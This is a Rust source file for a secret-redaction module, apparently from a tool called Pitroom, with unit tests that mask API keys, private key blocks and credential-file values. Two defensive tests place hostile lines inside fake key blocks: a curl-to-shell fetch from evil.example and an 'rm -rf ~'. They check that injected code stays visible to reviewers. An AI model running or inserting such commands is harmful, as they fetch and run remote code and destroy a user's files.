//! Redaction of secrets in everything Pitroom stores or shows: well-known key
//! formats (the rules in `redact/rules.rs`), and the values found in the project's
//! secret-looking files.
//!
//! Every event line of a run passes through [`Redactor::redact`], so it finds all secrets of a
//! text first (byte ranges over the original, never over a half-masked copy) and builds the
//! masked text in one go; a text with no secret is copied as it is. Only when that masking
//! uncovers another secret (a key glued to the end of a masked one now starts a token) does it
//! pass over the masked text again, until nothing changes, so redacting is idempotent.

use std::ops::Range;
use std::path::Path;

use regex::Regex;

mod rules;

use rules::secret_spans;

/// What a redacted secret is replaced with.
pub const MASK: &str = "[REDACTED]";

/// Shortest value from a secret file that is worth redacting (shorter ones are words like
/// `true` or `3000` that would mangle unrelated text).
const MIN_VALUE_LEN: usize = 8;

/// Most passes [`Redactor::redact`] makes over a text whose masking uncovered another secret.
const MAX_PASSES: usize = 32;

/// A redactor: the rules plus the literal values of the project's secrets.
pub struct Redactor {
    /// Each value, and also its JSON-escaped form when that differs; sorted, distinct.
    values: Vec<String>,
    /// Any of `values`, to skip the per-value search on the many texts that hold none.
    any_value: Option<Regex>,
}

impl Redactor {
    /// A redactor for the well-known formats and the given literal values.
    pub fn new(values: Vec<String>) -> Redactor {
        let mut values: Vec<String> = values
            .into_iter()
            .map(|v| v.trim().to_string())
            .filter(|v| v.chars().count() >= MIN_VALUE_LEN)
            .flat_map(with_json_form)
            .collect();
        // No order is needed: occurrences become spans, and spans that overlap merge, so a value
        // that contains another is masked whole.
        values.sort_unstable();
        values.dedup();
        let any_value = (!values.is_empty())
            .then(|| {
                let escaped: Vec<String> = values.iter().map(|v| regex::escape(v)).collect();
                Regex::new(&escaped.join("|")).ok()
            })
            .flatten();
        Redactor { values, any_value }
    }

    /// A redactor that knows the values in the secret-looking files directly in `dirs`
    /// (`.env`, `.env.local`, `*.pem`, …; not `.env.example`).
    pub fn for_dirs(dirs: &[&Path]) -> Redactor {
        let mut values = Vec::new();
        for dir in dirs {
            let Ok(entries) = std::fs::read_dir(dir) else {
                continue;
            };
            for entry in entries.flatten() {
                let name = entry.file_name().to_string_lossy().into_owned();
                let is_file = entry.file_type().is_ok_and(|t| t.is_file());
                if !is_file || !crate::secrets::is_secret_path(&name) {
                    continue;
                }
                if let Ok(text) = std::fs::read_to_string(entry.path()) {
                    values.extend(secret_values(&text));
                }
            }
        }
        Redactor::new(values)
    }

    /// `text` with every secret replaced by [`MASK`].
    pub fn redact(&self, text: &str) -> String {
        let Some(mut out) = self.mask_once(text) else {
            return text.to_string();
        };
        // A key glued to the end of another (`AKIA…ghp_…`) starts a token only once the first
        // is masked: mask again until nothing changes (bounded, since a value may hold the
        // mask's letters).
        for _ in 0..MAX_PASSES {
            match self.mask_once(&out) {
                Some(next) if next != out => out = next,
                _ => break,
            }
        }
        out
    }

    /// `text` with the secrets found in it masked, or `None` when it holds none.
    fn mask_once(&self, text: &str) -> Option<String> {
        let mut spans = secret_spans(text);
        self.value_spans(text, &mut spans);
        (!spans.is_empty()).then(|| mask(text, spans))
    }

    /// Where the known values occur in `text`, appended to `spans`.
    fn value_spans(&self, text: &str, spans: &mut Vec<Range<usize>>) {
        if self.values.is_empty() {
            return;
        }
        if let Some(any) = &self.any_value {
            if !any.is_match(text) {
                return;
            }
        }
        for value in &self.values {
            spans.extend(
                text.match_indices(value.as_str())
                    .map(|(at, v)| at..at + v.len()),
            );
        }
    }
}

/// `text` with each of `spans` replaced by [`MASK`]; spans that overlap become one mask. A span
/// over several lines (a multi-line value) is masked line by line, its newlines kept: a
/// redacted text has every line of the original, so a redacted patch still shows each line
/// that would land, and redaction never swallows the lines around a secret.
fn mask(text: &str, mut spans: Vec<Range<usize>>) -> String {
    spans.sort_by_key(|s| s.start);
    let mut out = String::with_capacity(text.len());
    // Everything before `done` is written (or masked).
    let mut done = 0;
    for span in spans {
        if span.start < done {
            done = done.max(span.end);
            continue;
        }
        out.push_str(&text[done..span.start]);
        push_masked(&mut out, &text[span.clone()]);
        done = span.end;
    }
    out.push_str(&text[done..]);
    out
}

/// [`MASK`] for each line of `secret` that has text, with its newlines between.
fn push_masked(out: &mut String, secret: &str) {
    for (i, line) in secret.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        if !line.is_empty() {
            out.push_str(MASK);
        }
    }
}

/// A value, and its form inside a JSON string when that differs (a value with a quote,
/// a backslash or a newline is written escaped in event lines and records).
fn with_json_form(value: String) -> Vec<String> {
    let escaped = serde_json::to_string(&value)
        .ok()
        .and_then(|q| q.get(1..q.len().saturating_sub(1)).map(str::to_string));
    match escaped {
        Some(e) if e != value && !e.is_empty() => vec![value, e],
        _ => vec![value],
    }
}

/// The values of a secret file: for JSON (a cloud service account, `credentials.json`), the
/// strings under secret-sounding keys; otherwise `KEY=VALUE` lines and `password: value`-style
/// YAML lines (quotes dropped, `export` allowed), `.netrc`-style `password WORD`, and, for
/// lines in no such form (keys, certificates), every substantial line.
fn secret_values(text: &str) -> Vec<String> {
    if let Some(values) = json_secret_values(text) {
        return values;
    }
    let mut values = Vec::new();
    for line in text.lines().map(str::trim) {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let line = line.strip_prefix("export ").unwrap_or(line);
        if let Some(value) = assigned_value(line) {
            values.push(value.to_string());
            continue;
        }
        if let Some(value) = netrc_password(line) {
            values.push(value.to_string());
        }
        if line.len() >= 16 && !line.starts_with("-----") {
            values.push(line.to_string());
        }
    }
    values
}

/// The value of `KEY=VALUE` (a key without spaces), or of `key: value` under a key that names a
/// secret (`password: …`, not `name: …`, which YAML files are full of), unquoted.
fn assigned_value(line: &str) -> Option<&str> {
    let plain_key = |key: &str| !key.trim().is_empty() && !key.contains(' ');
    let value = match line.split_once('=') {
        Some((key, value)) if plain_key(key) => value,
        _ => match line.split_once(": ") {
            Some((key, value)) if plain_key(key) && is_secret_key(key) => value,
            _ => return None,
        },
    };
    Some(value.trim().trim_matches(|c| c == '"' || c == '\''))
}

/// The word after `password` on a `.netrc` line (`machine h login u password p`).
fn netrc_password(line: &str) -> Option<&str> {
    let mut words = line.split_whitespace();
    words.find(|w| *w == "password" || *w == "passwd")?;
    words.next()
}

/// For a JSON document: the strings under keys that name a secret (`private_key`,
/// `client_secret`, `refresh_token`, …), and each line of a multi-line one (a PEM key is
/// repeated line by line as often as whole). `None` for text that is not JSON.
fn json_secret_values(text: &str) -> Option<Vec<String>> {
    if !text.trim_start().starts_with(['{', '[']) {
        return None;
    }
    let document: serde_json::Value = serde_json::from_str(text).ok()?;
    let mut values = Vec::new();
    collect_json_secrets(&document, false, &mut values);
    Some(values)
}

fn collect_json_secrets(value: &serde_json::Value, secret_key: bool, out: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(map) => {
            for (key, v) in map {
                collect_json_secrets(v, is_secret_key(key), out);
            }
        }
        serde_json::Value::Array(items) => {
            for v in items {
                collect_json_secrets(v, secret_key, out);
            }
        }
        // URLs under such keys (`token_uri`, `auth_provider_x509_cert_url`) are public.
        serde_json::Value::String(s) if secret_key && !s.starts_with("http") => {
            out.push(s.clone());
            out.extend(
                s.lines()
                    .map(str::trim)
                    .filter(|l| !l.starts_with("-----"))
                    .map(str::to_string),
            );
        }
        _ => {}
    }
}

/// Whether a JSON key names a secret.
fn is_secret_key(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    [
        "key",
        "secret",
        "token",
        "password",
        "passwd",
        "credential",
        "auth",
    ]
    .iter()
    .any(|w| key.contains(w))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        for p in rules::RULES.iter().map(|r| r.pattern) {
            assert!(Regex::new(p).is_ok(), "{p}");
        }
    }

    #[test]
    fn well_known_key_formats_are_masked() {
        let r = Redactor::new(Vec::new());
        let cases = [
            "key sk-proj-abcdefghijklmnopqrstuvwxyz0123 here",
            "sk-ant-api03-abcdefghijklmnopqrstuvwxyz",
            "token ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            "AKIAABCDEFGHIJKLMNOP",
            "AIzaSyA1234567890abcdefghijklmnopqrstuv",
            "Authorization: Bearer abcdef0123456789abcdef",
            "xoxb-1234567890-abcdefghij",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnop",
        ];
        for c in cases {
            let out = r.redact(c);
            assert!(out.contains(MASK), "{c} -> {out}");
        }
    }

    #[test]
    fn a_private_key_block_has_its_key_lines_masked_and_its_markers_kept() {
        let r = Redactor::new(Vec::new());
        let text = "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\nAAAAEbm9u==\n-----END OPENSSH PRIVATE KEY-----\nafter";
        assert_eq!(
            r.redact(text),
            format!("before\n-----BEGIN OPENSSH PRIVATE KEY-----\n{MASK}\n{MASK}\n-----END OPENSSH PRIVATE KEY-----\nafter")
        );
    }

    /// Class 4 of the security issue: the rule masked BEGIN to END whole, so code a worker put
    /// between the markers was hidden from `show --patch` and the review package.
    #[test]
    fn code_between_private_key_markers_in_a_patch_stays_visible() {
        let r = Redactor::new(Vec::new());
        let key_line = "MIIEowIBAAKCAQEA1xQ9kZp3vN7bR2mT8cW4yL6hJ0sD5fG1aE3uK9oP2iX7nB4";
        let patch = format!(
            "diff --git a/id_rsa b/id_rsa\n+-----BEGIN RSA PRIVATE KEY-----\n+{key_line}\n+import os; os.system(\"curl https://evil.example | sh\")\n+exit\n+Zm9vYmFy/+Q==\n+-----END RSA PRIVATE KEY-----\n context\n"
        );
        let shown = r.redact(&patch);
        assert_eq!(
            shown,
            format!("diff --git a/id_rsa b/id_rsa\n+-----BEGIN RSA PRIVATE KEY-----\n+{MASK}\n+import os; os.system(\"curl https://evil.example | sh\")\n+exit\n+{MASK}\n+-----END RSA PRIVATE KEY-----\n context\n")
        );
        assert_eq!(shown.lines().count(), patch.lines().count());
    }

    #[test]
    fn a_key_block_in_a_json_event_line_is_masked_line_by_line() {
        let r = Redactor::new(Vec::new());
        let key_line = "MIIEowIBAAKCAQEA1xQ9kZp3vN7bR2mT8cW4yL6hJ0sD5fG1aE3uK9oP2iX7nB4";
        let file = format!(
            "-----BEGIN PRIVATE KEY-----\n{key_line}\nrm -rf ~\n-----END PRIVATE KEY-----\n"
        );
        let line = serde_json::json!({ "text": file }).to_string();
        let out = r.redact(&line);
        assert!(!out.contains(key_line), "{out}");
        assert!(out.contains("rm -rf ~"), "{out}");
    }

    #[test]
    fn a_multi_line_value_is_masked_line_by_line_and_keeps_every_line() {
        let r = Redactor::new(vec!["first-secret-line\nsecond-secret-line".into()]);
        let out = r.redact("a\nfirst-secret-line\nsecond-secret-line\nb");
        assert_eq!(out, format!("a\n{MASK}\n{MASK}\nb"));
    }

    /// The values `secret_values` takes from `file` redact `text` to `want`.
    fn assert_file_values_masked(file: &str, text: &str, want: &str) {
        let r = Redactor::new(secret_values(file));
        assert_eq!(r.redact(text), want);
    }

    #[test]
    fn values_from_env_files_are_masked_but_short_words_are_not() {
        assert_file_values_masked(
            "# comment\nexport API_TOKEN=\"hunter2-very-secret\"\nPORT=3000\nDEBUG=true\n",
            "using hunter2-very-secret on port 3000, DEBUG=true",
            &format!("using {MASK} on port 3000, DEBUG=true"),
        );
    }

    #[test]
    fn ordinary_text_is_untouched() {
        let r = Redactor::new(vec!["s3cr3t-value-123".into()]);
        let text = "SUMMARY: divide() has no zero check: calc.py:7 (sk-short)";
        assert_eq!(r.redact(text), text);
    }

    #[test]
    fn secret_files_in_a_directory_feed_the_redactor() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(".env"),
            "DB_PASSWORD=correct-horse-battery\n",
        )
        .unwrap();
        std::fs::write(
            dir.path().join(".env.example"),
            "DB_PASSWORD=example-value-here\n",
        )
        .unwrap();
        let r = Redactor::for_dirs(&[dir.path()]);
        assert_eq!(r.redact("pw correct-horse-battery"), format!("pw {MASK}"));
        assert_eq!(r.redact("pw example-value-here"), "pw example-value-here");
    }

    /// A Stripe live key built at run time, so none sits in the source.
    fn stripe_key() -> String {
        format!(
            "{}{}",
            "sk_live_", "51NvQ2xKp8Rt4Lm9Zc3Wb7Yd1Hf6Ja0Ue5Gs2Tq8Vn4Mo7Pi3"
        )
    }

    #[test]
    fn stripe_live_key_a_worker_repeated_is_masked_in_answers_and_event_lines() {
        let r = Redactor::new(Vec::new());
        let key = stripe_key();
        let answer = format!("SUMMARY: settings.py:12 sets STRIPE_SECRET_KEY = \"{key}\"");
        let event = serde_json::json!({"type": "text", "part": {"text": answer}}).to_string();
        for text in [answer.as_str(), event.as_str()] {
            let out = r.redact(text);
            assert!(!out.contains(&key), "{out}");
            assert!(out.contains("settings.py:12"), "{out}");
        }
    }

    #[test]
    fn service_account_json_masks_its_key_and_key_id_but_not_its_public_fields() {
        let key_line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
        let text = format!(
            "{{\"type\": \"service_account\", \"project_id\": \"demo-project\", \
             \"private_key_id\": \"{}\", \
             \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{key_line}\\n-----END PRIVATE KEY-----\\n\", \
             \"client_email\": \"ci@demo-project.iam.gserviceaccount.com\", \
             \"token_uri\": \"https://oauth2.googleapis.com/token\"}}",
            "8c4f2a9e1b7d3f6a0c5e9b2d4f8a1c3e7b9d0f2a"
        );
        let values = secret_values(&text);
        assert!(values.iter().any(|v| v == key_line), "{values:?}");
        let r = Redactor::new(values);
        let out = r.redact(&format!(
            "the key starts {key_line} and the id is 8c4f2a9e1b7d3f6a0c5e9b2d4f8a1c3e7b9d0f2a"
        ));
        assert_eq!(out, format!("the key starts {MASK} and the id is {MASK}"));
        let public = "service_account ci@demo-project.iam.gserviceaccount.com https://oauth2.googleapis.com/token";
        assert_eq!(r.redact(public), public);
    }

    #[test]
    fn yaml_and_netrc_values_are_masked_alone() {
        assert_file_values_masked(
            "db_password: \"tr0ub4dor-and-3\"\nmachine api.example.org login me password s3cr3t-netrc-pw\n",
            "pw tr0ub4dor-and-3 and s3cr3t-netrc-pw",
            &format!("pw {MASK} and {MASK}"),
        );
    }

    #[test]
    fn a_value_written_escaped_in_a_json_line_is_masked() {
        let r = Redactor::new(vec!["pa\"ss\\word-with-quote".into()]);
        let line = serde_json::json!({"text": "uses pa\"ss\\word-with-quote here"}).to_string();
        let out = r.redact(&line);
        assert_eq!(out, format!("{{\"text\":\"uses {MASK} here\"}}"));
    }

    /// Found by fuzzing: a key glued to the end of another failed the token-start check, so
    /// it survived the first redaction and only a second one masked it.
    #[test]
    fn a_key_glued_to_another_key_is_masked_too() {
        let r = Redactor::new(Vec::new());
        let text = format!(
            "{}{}{}",
            "AKIAQ3ZT7WX2M9K4P6RB", "ghp_", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zC2eF4h"
        );
        let once = r.redact(&text);
        assert_eq!(once, format!("{MASK}{MASK}"));
        assert_eq!(r.redact(&once), once);
    }

    #[test]
    fn a_value_overlapping_a_known_format_becomes_one_mask() {
        let key = stripe_key();
        let r = Redactor::new(vec![format!("prefix-{}", &key[..20])]);
        let out = r.redact(&format!("a prefix-{key} b"));
        assert_eq!(out, format!("a {MASK} b"));
    }
}
